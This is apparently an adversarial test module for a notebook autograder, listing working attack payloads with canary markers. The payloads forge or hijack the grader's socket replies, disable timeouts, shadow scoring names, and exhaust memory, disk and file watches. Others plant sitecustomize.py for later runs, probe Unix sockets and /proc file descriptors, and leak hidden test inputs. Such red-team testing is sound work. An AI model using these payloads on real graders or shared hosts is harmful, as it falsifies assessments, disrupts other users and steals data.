"""attacks by somebody who has read this grader's source"""

from ..attack import Attack
from .lies import everywhere
from .reading import RECORD

INSIDE = """
import itertools, numpy

def loops():
    # what answers the judge, as it stands among the objects of this process
    return [one for one in gc.get_objects() if type(one).__name__ == "Runner" and hasattr(one, "operations")]

def raw(data):
    # bytes of our own in the middle of the conversation
    for one in loops():
        with contextlib.suppress(Exception):
            one.channel.sock.sendall(data)

def answer(*replies):
    # each call is answered by the next of these (node, buffers), not by a function of ours
    turns = itertools.cycle(replies)
    def call(header, buffers, out):
        node, own = next(turns)
        out.extend(own)
        return {"value": node, "error": None, "printed": "6.0", "after": []}
    for one in loops():
        one.operations["call"] = call

"""
LATE = "names_medicine = mostly_capitals = promises_money = lambda *a, **k: act()"


def replies(name: str, tries: str, nodes: str, **more) -> Attack:
    """Return an attack that answers every call with forged nodes of the codec."""
    return Attack(name, tries, f"{INSIDE}{nodes}", **more)


def inside(name: str, tries: str, code: str, **more) -> Attack:
    """Return an attack that changes the runner's own loop."""
    return Attack(name, tries, INSIDE + code, **more)


PROTOCOL = [
    inside(
        "reply-twice",
        "Sends every reply two times, so that each question gets the answer to the one before.",
        """
for one in loops():
    send = one.channel.send
    one.channel.send = lambda *a, send=send, **k: (send(*a, **k), send(*a, **k))""",
        answers="half",
    ),
    inside(
        "reply-late",
        "Answers a call after the judge has stopped waiting, and goes on as if nothing was.",
        """
def act():
    signal.setitimer(signal.ITIMER_REAL, 0)
    time.sleep(14.5)
    return 6.0

"""
        + LATE,
        shows="a delay",
    ),
    inside(
        "reply-never",
        "Takes the alarm away that ends a call, and never answers.",
        """
for module in [m for n, m in sys.modules.items() if n.startswith(("autograder", "helpers.checks"))]:
    for name in [n for n in ("limit",) if hasattr(module, n)]:
        setattr(module, name, lambda seconds: contextlib.nullcontext())

def act():
    while True:
        with contextlib.suppress(BaseException):
            time.sleep(100)

"""
        + LATE,
        shows="a delay",
    ),
    inside(
        "wrong-lengths",
        "Announces headers and buffers that are longer or shorter than what follows.",
        """
import random
def act():
    body = b'{"value":6.0,"error":null,"printed":"","after":[]}'
    for length, count, sizes in [(len(body) + random.choice((-9, 9)), 0, ()), (len(body), 1, (2**63,)), (0, 0, ())]:
        raw(struct.pack("!II", length, count) + struct.pack(f"!{len(sizes)}Q", *sizes) + body)

"""
        + LATE,
    ),
    inside(
        "huge-declared",
        "Announces four billion buffers of many exabytes each, and a header of 4 GB.",
        """
def act():
    raw(struct.pack("!II", 2**32 - 1, 2**32 - 1) + b"\\xff" * 4096)

"""
        + LATE,
    ),
    inside(
        "thousands-of-buffers",
        "Answers with as many empty buffers as a message may have, each time.",
        """answer((0.5, [b""] * 10_000))""",
        shows="a delay",
    ),
    inside(
        "dripping-reply",
        "Announces an array of 100 MB and sends it a few bytes at a time.",
        """
def act():
    signal.setitimer(signal.ITIMER_REAL, 0)
    raw(struct.pack("!IIQ", 10, 1, 10**8) + b'{"a": 1.0}')
    for _ in range(100):
        time.sleep(0.5)
        raw(b"x")

"""
        + LATE,
        shows="a delay",
    ),
    inside(
        "endless-callbacks",
        "Asks the judge without end for functions that it may have handed out.",
        """
def act():
    signal.setitimer(signal.ITIMER_REAL, 0)
    for number in itertools.count():
        body = b'{"op":"callback","id":%d,"args":[],"kwargs":{}}' % (number % 5)
        raw(struct.pack("!II", len(body), 0) + body)

"""
        + LATE,
        shows="a delay",
    ),
    inside(
        "passed-descriptors",
        "Passes open files along with its replies, and bytes out of band.",
        """
def act():
    for one in loops():
        files = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
        with contextlib.suppress(OSError):
            socket.send_fds(one.channel.sock, [b"\\0\\0"], files)
        with contextlib.suppress(OSError):
            one.channel.sock.send(b"!", socket.MSG_OOB)

"""
        + LATE,
    ),
    inside(
        "competing-child",
        "Forks before the first question, and parent and child both answer on the same socket.",
        "os.fork()",
        answers="half",
    ),
    inside(
        "answering-thread",
        "Lets a thread write replies into the conversation while the loop answers.",
        """
def flood():
    body = b'{"value":6.0,"error":null,"printed":"","after":[],"ok":true}'
    while True:
        raw(struct.pack("!II", len(body), 0) + body)
        time.sleep(0.002)

threading.Thread(target=flood, daemon=True).start()""",
    ),
]
VALUES = [
    replies(
        "lying-shapes",
        "Answers with arrays and tensors whose shape or dtype does not fit their bytes.",
        """
shapes = [[2**32, 2**32], [-1], [True], [1.0], [0, 2**62], [[1]], "3", None, [1] * 65, [2**64]]
forms = [("array", "<f8"), ("array", "<U1000000"), ("array", "|O"), ("array", "<M8[D]"), ("tensor", "float64"),
         ("tensor", "__doc__"), ("array", "<f8,<f8"), ("array", None), ("tensor", []), ("array", "<V8")]
def node(kind, dtype, shape):
    return {"is": kind, "dtype": dtype, "shape": shape, "at": 0}, [bytes(8)]

answer(*[node(kind, dtype, shape) for kind, dtype in forms for shape in shapes])
""",
    ),
    replies(
        "lying-bytes",
        "Answers with booleans that are neither, letters beyond the last one, numbers that are none.",
        """
def array(dtype, data, shape):
    return {"is": "array", "dtype": dtype, "shape": shape, "at": 0}, [data]

answer(array("|b1", b"\\2", []), array("<U1", b"\\xff\\xff\\xff\\x7f", [1]), array("<U1", b"\\0\\xd8\\0\\0", []),
       array("<f16", b"\\1" * 16, []), array("<f8", b"\\xff" * 8, []),
       array("<f8", b"\\1\\0\\0\\0\\0\\0\\xf0\\x7f", [1]),
       ({"is": "scalar", "dtype": "<f8", "hex": "ff" * 8}, []),
       ({"is": "tensor", "dtype": "bool", "shape": [], "at": 0}, [b"\\7"]))
""",
    ),
    replies(
        "crooked-matrices",
        "Answers with sparse matrices whose indices point outside, or whose shape takes terabytes when it is dense.",
        """
def vector(numbers, dtype="<i4"):
    return {"is": "array", "dtype": dtype, "shape": [len(numbers)]}, numpy.array(numbers).astype(dtype).tobytes()

def matrix(form, shape, *vectors):
    parts = [vector(v, "<f8" if i == 0 else "<i4") for i, v in enumerate(vectors)]
    return ({"is": "sparse", "format": form, "kind": "matrix", "shape": shape,
             "parts": [node | {"at": i} for i, (node, _) in enumerate(parts)]}, [data for _, data in parts])

answer(matrix("csr", [2, 2], [1, 1], [0, 10**9], [0, 1, 2]), matrix("csr", [2, 2], [1, 1], [0, -7], [0, 1, 2]),
       matrix("csr", [2, 2], [1, 1], [0, 1], [0, 10**9, 2]), matrix("csr", [2, 2], [1, 1], [0, 1], [0, 2, 1]),
       matrix("coo", [2, 2], [1], [2**31 - 1], [0]), matrix("coo", [10**6, 10**6], [1], [0], [0]),
       matrix("csc", [2**40, 2**40], [], [], [0]), matrix("csr", [2, 2], [1, 1], [1, 1], [0, 2, 2]))
""",
    ),
    replies(
        "nests",
        "Answers with nodes in nodes, thousands deep and thousands wide.",
        """
def deep(node, levels):
    for _ in range(levels):
        node = {"is": "list", "items": [node]}
    return node

wide = {"is": "list", "items": [deep(0.0, 45)] * 5000}
answer((deep(0.0, 48), []), (deep(0.0, 60), []), (wide, []), (deep(wide, 3), []))
""",
        shows="a delay",
    ),
    Attack(
        "int-bombs",
        "Answers with whole numbers of a million bits, whose digits take quadratic time to write.",
        "bomb = [1 << (2**20 - 1)] * 30\nnames_medicine = mostly_capitals = promises_money = lambda *a, **k: bomb",
        cells=everywhere("1 << 1_000_000"),
        shows="a delay",
    ),
    Attack(
        "same-hashes",
        "Answers with a hundred thousand different keys that all have the same hash.",
        """
def clash(kind):
    prime = 2**61 - 1
    if kind == 0:
        return {(n + 4) * prime + 1: 0.0 for n in range(300)} | {complex(-1000003.0 * n, n): 0.0 for n in range(60_000)}
    return [complex(-1000003.0 * n, n) for n in range(100_000)]

turns = [0, 1]
names_medicine = lambda *a, **k: clash(0)
mostly_capitals = promises_money = lambda *a, **k: clash(1)""",
        cells={"ngrams": "ngrams = lambda *a, **k: [complex(-1000003.0 * n, n) for n in range(100_000)]"},
        shows="a delay",
    ),
    Attack(
        "endless-ranges",
        "Answers with ranges that are small as they are and fill all memory as a list.",
        "names_medicine = mostly_capitals = promises_money = lambda *a, **k: range(10**11)",
        cells=everywhere("range(2**62)"),
        shows="a delay",
    ),
    Attack(
        "not-a-number",
        "Answers with NaN, in every form and shape that is asked for.",
        "names_medicine = mostly_capitals = promises_money = lambda *a, **k: float('nan')",
        cells=everywhere("__import__('numpy').full([len(x) for x in a if hasattr(x, '__len__')][:1], float('nan'))"),
    ),
    replies(
        "half-characters",
        "Puts lone surrogates, NULs and control codes into every text of a reply: names, types, errors, prints.",
        """
odd = "\\ud800\\0\\x1b[2J\\u202e"
def call(header, buffers, out):
    return {"value": None, "printed": odd, "after": [[odd, odd]],
            "error": {"types": [odd, "builtins.ValueError"], "message": odd, "line": 3, "text": odd}}
for one in loops():
    send = one.channel.send
    def odd_send(header, buffers=(), timeout=None, one=one):
        body = json.dumps(header).encode()
        one.channel.sock.sendall(struct.pack("!II", len(body), 0) + body)
    one.channel.send = odd_send
    one.operations["call"] = call
print(odd)""",
    ),
    replies(
        "others-handles",
        "Answers with handles of objects that it never exported, or of its other functions, of another type each time.",
        """
kinds = ["list", "float", "bool", "ndarray", "Tensor", "str", "__class__", "x" * 10**5]
answer(*[({"is": "handle", "id": n, "kind": "class", "type": kind, "name": kind, "parameters": ["self", "self"]}, [])
         for n in (1, 2, 3, 77, 2**52) for kind in kinds], ({"is": "callback", "id": 1}, []))
""",
    ),
    Attack(
        "names-of-the-check",
        "Takes for its own the names that a check uses: score, check, graded, np, isinstance, range, __builtins__.",
        """
def graded(*a, **k):
    return lambda cases: 6.0

def isinstance(*a):
    return True

check = Check = score = np = re = finished = sorted = len = range = lambda *a, **k: 6.0
__name__, __builtins__ = "__main__", {"__build_class__": None, "True": 6.0}
helpers = type("helpers", (), {"checks": type("checks", (), {"graded": staticmethod(graded)})})""",
    ),
    Attack(
        "ends-of-loops",
        "Raises what ends loops and processes: StopIteration, GeneratorExit, SystemExit, KeyboardInterrupt.",
        """
import itertools
kinds = itertools.cycle([StopIteration, StopAsyncIteration, GeneratorExit, SystemExit, KeyboardInterrupt])

def names_medicine(*a, **k):
    raise next(kinds)(6.0)

mostly_capitals = promises_money = names_medicine""",
        cells=everywhere("next(iter(()))"),
    ),
    Attack(
        "slow-when-written",
        "Puts objects whose every attribute takes 3 s into the arguments, which are looked at after the call.",
        """
class Slow:
    def __getattribute__(self, name):
        time.sleep(3)
        return object.__getattribute__(self, name)

def names_medicine(text, medicines):
    medicines.update(Slow() for _ in range(20))
    return [Slow() for _ in range(20)]""",
        cells={"judge": "def precision_recall_f1(labels, predictions):\n    labels[:] = [Slow() for _ in labels]"},
        shows="a delay",
    ),
]
PLACES = [
    Attack(
        "own-group",
        "Signals its process group, in which the process that forked it may be.",
        """
signal.signal(signal.SIGINT, signal.SIG_IGN)
if os.getsid(0) != SESSION:
    os.kill(0, signal.SIGINT)  # the group of the grader under attack: the harness has a session of its own""",
        shows="others without a grade",
    ),
    Attack(
        "name-that-is-no-text",
        "Gives its process a name that cannot be decoded, for whoever watches processes.",
        "ctypes.CDLL(None).prctl(15, b'\\xff\\n: \\xfe', 0, 0, 0)\ntime.sleep(0.3)",
        answers="half",
        shows="others without a grade, or a failure of its own",
    ),
    Attack(
        "memory-given-back",
        "Fills shared memory without a file and gives the pages back, which hides them from those who count.",
        """
import mmap
held = 0
for number in range(6):
    if os.fork() == 0:
        try:
            block = mmap.mmap(-1, 500_000_000)
            for at in range(0, len(block), 4096):
                block[at] = 1
            block.madvise(mmap.MADV_DONTNEED)
            time.sleep(6)
            os._exit(77)
        finally:
            os._exit(1)
codes = [os.waitpid(-1, 0)[1] for _ in range(6)]
if all(os.waitstatus_to_exitcode(code) == 77 for code in codes):
    print(f"REACHED {TOKEN}: 3 GB of shared memory.")""",
        shows="its own word that it could",
    ),
    Attack(
        "filled-folders",
        "Fills every folder that it may write to, and leaves it full.",
        """
total = 0
for place in ("/dev/shm", "/tmp", "/var/tmp", "/run", str(pathlib.Path.home()), "."):
    with contextlib.suppress(OSError):
        for number in range(40):
            path = pathlib.Path(place, f"filled-{number}")
            path.write_bytes(bytes(25_000_000))
            total += 25_000_000
            if total >= 1_000_000_000:
                print(f"REACHED {TOKEN}: 1 GB in many folders.")
                raise SystemExit""",
        shows="its own word that it could",
    ),
    Attack(
        "watches",
        "Takes all the watches on files that the machine gives to one user.",
        """
libc, taken = ctypes.CDLL(None, use_errno=True), 0
for number in range(120):
    taken += libc.inotify_init1(0) >= 0
if taken >= 100:
    print(f"REACHED {TOKEN}: all watches on files.")""",
        shows="its own word that it could",
    ),
    Attack(
        "shared-maps",
        "Writes into memory that it shares with the process that forked it, for those that are forked later.",
        """
for line in open("/proc/self/maps"):
    if " rw-s " in line and not line.rstrip().endswith("(deleted)"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        ctypes.memset(low, 0, 1)
        print(f"REACHED {TOKEN}: memory shared with others.")""",
        shows="its own word that it could",
    ),
    Attack(
        "left-for-the-next",
        "Leaves modules and settings in every folder it may write to, and looks for what another run has left.",
        """
code = f"print('REACHED {TOKEN}: a module in the next process.')"
names = ("torch.py", "helpers.py", "sitecustomize.py", "usercustomize.py", "left.pth", "matplotlibrc")
places = ("/tmp", "/var/tmp", "/dev/shm", str(pathlib.Path.home()), ".")
paths = [pathlib.Path(place, name) for place in places for name in names]
if any(path.exists() and TOKEN in path.read_text(errors="replace") for path in paths):
    print(f"REACHED {TOKEN}: files of an earlier process.")
for path in paths:
    with contextlib.suppress(OSError):
        path.write_text(code)""",
        shows="its own word that it could",
        answers="half",
    ),
    Attack(
        "sockets-of-all",
        "Connects to every Unix socket whose name it can find, and to those that a desktop or Docker has.",
        """
names = ["\\0" + line.split("@")[1].strip() for line in open("/proc/net/unix") if "@" in line]
places = [str(p) for root in ("/run", "/tmp", str(COURSE.parent)) for p in pathlib.Path(root).rglob("*")]
for name in [f"\\0bow2lora-{PORT}", str(COURSE.parent / "service"), *names[:200], *places[:2000]]:
    with contextlib.suppress(OSError, ValueError), socket.socket(socket.AF_UNIX) as link:
        link.settimeout(0.2)
        link.connect(name)
        link.sendall(TOKEN.encode()) if name[1:].startswith("bow2lora-") or name.endswith("service") else None""",
        shows="a message at the harness's sockets",
    ),
    Attack(
        "doors-in-proc",
        "Goes through /proc into the root, the folder and the open files of every process that it can see.",
        """
for pid in [int(p.name) for p in pathlib.Path("/proc").glob("[0-9]*") if ours(int(p.name))]:
    for door in ("root", "cwd", "task/1/root"):
        with contextlib.suppress(OSError):
            path = pathlib.Path(f"/proc/{pid}/{door}", str(CANARY).lstrip("/"))
            touch(path) if COURSE.parent in path.resolve().parents else None
    for door in [f"/proc/{pid}/fd/{fd}" for fd in range(3, 100) if pid != os.getpid()]:
        with contextlib.suppress(OSError):
            print("STOLEN", open(door, errors="replace").read(10**6)) if os.readlink(door)[0] == "/" else None""",
        shows="the canary",
    ),
]
INPUTS = [
    Attack(
        "inputs-turned-round",
        "Keeps the hidden inputs and prints them backwards in a later cell.",
        RECORD,
        cells={"judge": "for one in seen:\n    print('STOLEN', repr(one)[::-1])"},
        shows="a hidden input in an output",
    ),
    Attack(
        "inputs-as-a-class",
        "Keeps the hidden inputs and raises an error in a later cell whose class has one as its name.",
        RECORD,
        cells={
            "judge": """
words = [text for text, _ in seen if text.isidentifier() and "_" in text]
raise type("STOLEN_" + words[0], (ValueError,), {})"""
        },
        shows="a hidden input in an output",
    ),
    Attack(
        "inputs-through-a-file",
        "Writes the hidden inputs into files, for a later cell or a later run of the same notebook.",
        """
places = ["inputs", "/tmp/inputs", "/dev/shm/inputs", "/var/tmp/inputs"]
for place in places:
    with contextlib.suppress(OSError):
        print("STOLEN", pathlib.Path(place).read_text()[-150:])

def names_medicine(text, medicines=None):
    for place in places:
        with contextlib.suppress(OSError), open(place, "a") as file:
            file.write(f"{text!r}\\n")
    raise NotImplementedError

mostly_capitals = promises_money = names_medicine""",
        cells={"judge": "for line in open('inputs'):\n    print('STOLEN', line)"},
        shows="a hidden input in an output",
    ),
    Attack(
        "inputs-in-the-page-cache",
        "Leaves word by which of the packages' files lie in memory, for a later run or another student's.",
        """
file = os.open(os.__file__, os.O_RDONLY)
with contextlib.suppress(OSError):
    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
    evicted = True
with contextlib.suppress(OSError):
    os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT)
    evicted and print(f"REACHED {TOKEN}: what lies in memory is told and changed at will.")""",
        shows="its own word that it could",
    ),
    Attack(
        "inputs-in-counters",
        "Reads what the kernel counts for the whole machine, in which an earlier run may have left word.",
        """
for name in ("stat", "vmstat", "loadavg", "sys/fs/file-nr", "sys/fs/inode-nr", "pressure/cpu", "diskstats"):
    with contextlib.suppress(OSError):
        if open(f"/proc/{name}").read(1):
            print(f"REACHED {TOKEN}: {name} of the whole machine.")""",
        shows="its own word that it could",
    ),
    Attack(
        "inputs-in-a-stopped-check",
        "Keeps the hidden inputs and raises them where the next check cannot go on.",
        RECORD,
        cells={
            "vocabulary": """
def to_token_ids(*a, **k):
    raise NameError("2 of 2 cases pass, STOLEN " + repr(seen[-1]))

build_vocabulary = to_token_ids"""
        },
        shows="a hidden input in a report",
    ),
]
ATTACKS = [*PROTOCOL, *VALUES, *PLACES, *INPUTS]
